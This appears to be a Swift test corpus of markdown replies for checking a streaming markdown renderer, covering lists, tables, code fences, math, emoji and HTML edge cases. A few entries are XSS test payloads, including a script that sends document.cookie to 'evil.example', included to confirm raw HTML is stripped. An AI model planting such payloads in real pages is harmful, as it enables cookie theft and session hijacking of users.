/// Realistic LLM-style markdown replies: hand-written fragments, seeded-random combinations of them, and whole
/// documents.
enum MarkdownCorpus {
    /// Every document: the fragments alone, 200 seeded combinations, and the hand-written replies.
    static let documents: [String] = fragments + combinations(count: 200, seed: 0x5EED_CAFE) + replies

    /// Deterministic combinations of 3 to 8 fragments with varied separators (no blank line, one, or two).
    static func combinations(count: Int, seed: UInt64) -> [String] {
        var random = SplitMix64(seed: seed)
        let separators = ["\n\n", "\n\n", "\n\n", "\n", "\n\n\n"]
        return (0..<count).map { _ in
            let pieces = (0..<Int.random(in: 3...8, using: &random)).map { _ in fragments.randomElement(using: &random)!
            }
            return pieces.dropFirst().reduce(pieces[0]) { document, piece in
                document + separators.randomElement(using: &random)! + piece
            }
        }
    }

    /// Building blocks of typical replies, each a few lines.
    static let fragments: [String] = [
        "Sure! Here's a quick overview of how **async/await** works in Swift.",
        "## Key Concepts",
        "# Getting Started with `swift-nio`",
        "### Step 3: Deploy ###",
        """
        - Structured concurrency
          - Task groups
          - Async let bindings
        - Actors
          - Isolation
        - Sendable checking
        """,
        """
        * First point, which is fairly long and wraps
          onto a second line inside the item.

        * Second point after a blank line (this makes the list loose).

        * Third point
        """,
        """
        1. Install the toolchain
        2. Create a package:
           - `swift package init`
           - edit `Package.swift`
        3. Build with `swift build`
        """,
        """
        3. Third, continuing the numbering
        4. Fourth step
        10. Tenth, with a wider marker
        """,
        """
        | Feature | Swift | Rust |
        |:--------|:-----:|-----:|
        | Memory safety | ARC | Ownership |
        | Generics | Yes | Yes |
        | Async | `async`/`await` | `async`/`.await` |
        """,
        """
        | Operator | Meaning |
        | --- | --- |
        | `a \\| b` | bitwise or |
        | `||` in code: `x || y` | logical or |
        | escaped \\| pipe | text |
        """,
        """
        ```swift
        func fetch() async throws -> Data {
            let (data, _) = try await URLSession.shared.data(from: url)

            return data
        }
        ```
        """,
        """
        ~~~python
        def greet(name: str) -> str:

            return f"Hello, {name}!"
        ~~~
        """,
        """
        Indented code:

            let x = 1
            let y = [x, 2]

            print(y)
        """,
        """
        > **Note:** this is a block quote
        that continues lazily on the next line
        > and picks up again.
        """,
        """
        > Outer quote
        > > Inner quote with *emphasis*
        > > and more
        > Back to the outer one
        """,
        """
        Main Title
        ==========
        """,
        """
        A paragraph that becomes a heading
        ---
        """,
        "***",
        """
        ---

        After a thematic break.
        """,
        """
        <div class="note">
        **Important**: raw HTML blocks are omitted.
        </div>
        """,
        "<script>alert('xss')</script>",
        "Inline HTML <img src=x onerror=alert(1)> and <b>bold</b> tags are stripped.",
        "[docs]: https://swift.org/documentation \"Swift Documentation\"",
        "See the [docs] and [the guide][guide] for details, or [Swift](https://swift.org).",
        "[guide]: https://example.com/guide",
        "Visit https://www.swift.org, <https://example.com/path?q=1>, www.example.org or mail me@example.com.",
        """
        This is a long paragraph of the kind language models like to write. It keeps going with several
        sentences that explain a concept in detail, mentions edge cases, and then wraps up with a summary
        so that the reader can follow along without needing to scroll back. It ends here.
        """,
        "日本語のテキストと中文内容，还有한국어 문장도 있습니다。「引用」と『二重引用』。",
        "Team: 👩‍💻👨🏽‍🚀 👍🏿 🏳️‍🌈 family 👨‍👩‍👧‍👦 and flags 🇯🇵🇩🇪 ✨",
        "Accents: Cafe\u{301} vs Café, n\u{308}, Z\u{324}\u{308}a\u{300}\u{316}l\u{354}g\u{34D}o, and Hangul \u{1100}\u{1161}\u{11A8}.",
        "Line one with two trailing spaces  \nLine two with a backslash\\\nLine three",
        """
        - [x] Write the tests
        - [ ] Ship the feature
        - [ ] Celebrate 🎉
        """,
        "This is ~~wrong~~ **right**, *emphasised*, ***both***, and `inline code`.",
        "An image ![Swift logo](https://example.com/logo.png \"Logo\") inline with [a link](https://example.com/a_b).",
        "Use `array[0]` freely, but array[1] in prose and [citation needed] keep brackets.",
        """
        1. Run this:

           ```bash
           swift test --filter Parser
           ```

        2. Check the output.
        """,
        """
        > - quoted list item
        > - another one
        >
        > ```
        > quoted code
        > ```
        """,
        """
        Here is the comparison:
        | Left | Right |
        |------|-------|
        | a | b |
        """,
        """
        Steps below:
        - one
        - two
        """,
        """
        - [ref]: https://example.com/in-a-list
        - an item using [ref]
        """,
        "Entities: &copy; &amp; &#x27; &#65; &nbsp;and &lt;tag&gt;.",
        "**Bold with *nested emphasis* inside** and _underscored_ words.",
        "\tTab-indented code line\n\tsecond line",
        "Windows line\r\nendings here\r\n\r\n- a\r\n- b\r\n",
        "\u{FEFF}A line starting with a byte-order mark.",
        """
        ```js
        // an unclosed fence swallows the rest
        console.log("still code")
        """,
        #"The energy is $E = mc^2$, and the mean is $\bar x = \frac{1}{n}\sum_i x_i$ for *all* $x_i$."#,
        """
        The roots are
        $$
        x_{1,2} = \\frac{-b \\pm \\sqrt{b^2 - 4ac}}{2a}
        $$
        for every $a \\ne 0$.
        """,
        #"""
        With brackets: \(a_1 * b_2\) inline and
        \[
        \int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}
        \]
        """#,
        "It costs $5 and $10, or US$15; a lone $ stays, and \\$x\\$ is escaped.",
        #"Code keeps its signs: `$HOME`, `\(x\)` and `$$`."#,
        """
        $$
        \\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}
        """,
        """
        ```python
        def mean(xs: list[float]) -> float:
            \"\"\"Average of $xs$, not math.\"\"\"
            return sum(xs) / len(xs)  # $5
        ```
        """,
        """
        ```rust
        fn main() {
            let s = "a \\(b\\) c";
            println!("{s}");
        }
        ```
        """,
        """
        ```math
        \\nabla \\cdot \\vec{E} = \\frac{\\rho}{\\varepsilon_0}
        ```
        """,
    ]

    /// Whole hand-written replies.
    static let replies: [String] = [
        #"""
        # Understanding Swift Actors

        Actors protect their mutable state from data races. Here's the gist:

        1. Every actor has an isolated context.
        2. Calls from outside must `await`.
        3. `nonisolated` members skip isolation.

        ```swift
        actor Counter {
            private var value = 0

            func increment() -> Int {
                value += 1
                return value
            }
        }
        ```

        > **Tip:** prefer value types for data that crosses actor boundaries.

        That's it! Let me know if you want a deeper dive.
        """#,
        #"""
        Here's a comparison table:

        | Language | Typing | GC |
        |----------|:------:|---:|
        | Swift | static | ARC |
        | Go | static | tracing |
        | Python | dynamic | refcount + cycle |

        **Summary:** pick the one your team knows.
        """#,
        #"""
        Sure — let me break this down.

        ## Why it fails

        The compiler complains because `T` isn't `Sendable`:

        ```
        error: type 'T' does not conform to the 'Sendable' protocol
        ```

        ## How to fix it

        - Add a constraint: `where T: Sendable`
        - Or make the value a `struct` with only `Sendable` members
          - nested: avoid classes with mutable state
          - nested: or mark them `final` and immutable

        ---

        Hope this helps!
        """#,
        #"""
        According to the [official docs][swift-docs], you can use `Task.sleep(for:)`.
        See also the [evolution proposal][se-0329].

        [swift-docs]: https://docs.swift.org/swift-book/
        [se-0329]: https://github.com/apple/swift-evolution/blob/main/proposals/0329-clock-instant-duration.md
        """#,
        #"""
        [1]: https://example.com/first "First"
        [2]: https://example.com/second

        As shown in [the first study][1] and [another][2], results vary.
        Footnote-style references like [1] work too.
        """#,
        #"""
        Todo for the release:

        - [x] Update the changelog
        - [x] Bump the version
        - [ ] Tag the release
          - [ ] Push the tag
        - [ ] Announce on the forums
        """#,
        #"""
        Quick answer: **yes**.

        Longer answer
        -------------

        It depends on whether you need ~~blocking~~ non-blocking I/O. With NIO you'd write:

        ~~~swift
        let channel = try await bootstrap.connect(host: "example.com", port: 443).get()
        ~~~

        and then handle the pipeline.
        """#,
        #"""
        > Someone asked:
        > How do I reverse a string?
        This line is a lazy continuation.

        You can use `String(s.reversed())`.

        > > Nested quote
        > back to level one
        """#,
        #"""
        Let's look at an HTML example. If you write this markdown:

        <script>document.location='https://evil.example/?c='+document.cookie</script>

        <iframe src="https://evil.example"></iframe>

        it is **not** rendered as HTML. Same for <span onclick="alert(1)">inline</span> tags.
        """#,
        #"""
        Here are some links:

        - https://swift.org
        - www.github.com/apple/swift
        - <mailto:someone@example.com>
        - contact: support@example.com
        - [relative link](/docs/getting-started)
        """#,
        #"""
        中文回答：

        1. 首先，安装 **Swift** 工具链。
        2. 然后运行 `swift build`。

        | 名称 | 说明 |
        |------|------|
        | 构建 | 编译代码 |
        | 测试 | 运行测试 |

        完成！🎉👍🏽
        """#,
        #"""
        Poem time 🌙

        Roses are red,\
        violets are blue,  
        Swift has actors,
        and so do you.

        — *Anonymous* 🧑🏿‍🎤
        """#,
        #"""
        The algorithm:

            for i in 0..<n {
                for j in 0..<m {
                    grid[i][j] = 0
                }
            }

        runs in O(n·m) time. Note that grid[i][j] is written in prose here.
        """#,
        #"""
        ### Options

        * `--verbose` — print more
        * `--quiet` — print less

        * `--output <path>` — write to a file

        1) parenthesised ordered list
        2) second
        """#,
        #"""
        Setext headings:

        Level One
        =========

        Level Two
        ---------

        Plain paragraph.
        ***
        Another one after a break.
        """#,
        #"""
        ```diff
        - let old = 1
        + let new = 2
        ```

        ```json
        {
          "name": "parley",

          "version": "1.0.0"
        }
        ```
        """#,
        #"""
        Some text with a table right below and no blank line:
        | a | b |
        |---|---|
        | 1 | 2 |
        | 3 | 4 |
        trailing row without pipes

        After the table.
        """#,
        #"""
        1. First

        2. Second, loose

           With a continuation paragraph.

        3. Third
        """#,
        #"""
        Edge cases with emphasis: **bold**text, *a*b*c*, __dunder__, and snake_case_words.

        Escapes: \*not emphasis\*, \[not a link\], \`not code\`.
        """#,
        #"""
        Definition used before it's defined: [Parley][p].

        Some unrelated paragraph in between.

        > A quote mentioning [Parley][p] again.

        [p]: https://example.com/parley 'Parley home'
        """#,
        #"""
        - Item with code:

          ```python
          print("hi")

          print("bye")
          ```

        - Item with a quote:

          > quoted inside the list
        """#,
        #"""
        Math-like text: a < b && c > d, 5 * 3 * 2, and x_1 + x_2.

        HTML-ish: <notatag and 3 < 4 > 2.
        """#,
        #"""
        Unclosed code at the end:

        ```rust
        fn main() {
            println!("hello");
        """#,
        #"""
        Table with inline formatting:

        | Name | Description | Link |
        |:-----|-------------|------|
        | **Bold** | ~~old~~ new | [site](https://example.com) |
        | `code` | *italic* | <https://example.org> |
        """#,
        #"""
        Emoji stress: 👨‍👩‍👧‍👦👩🏻‍❤️‍💋‍👨🏼🧔🏾‍♂️🏴󠁧󠁢󠁳󠁣󠁴󠁿 — keycaps 1️⃣2️⃣ — and text.

        - 👍🏻 good
        - 👎🏿 bad
        """#,
        #"""
        <details>
        <summary>Click to expand</summary>

        Hidden *content* here.

        </details>

        Done.
        """#,
        #"""
        Title with trailing hashes ##
        ===

        #Not a heading (no space)

        ####### Too many hashes
        """#,
        #"""
        A reply that cites sources inside a list:

        - Apple's guide: [concurrency]
        - The proposal: [SE-0306]

          [concurrency]: https://docs.swift.org/concurrency
          [SE-0306]: https://github.com/apple/swift-evolution/blob/main/proposals/0306-actors.md

        More text referencing [concurrency] after the list.
        """#,
        #"""
        Mixed nesting:

        1. Top level
           - bullet
             1. deep ordered
             2. deeper
           - bullet two

             > a quote in a list
        2. Back to top level
        """#,
        #"""
        Final thoughts

        In summary, streaming markdown rendering must handle every construct above.
        Thanks for reading!
        """#,
    ]
}
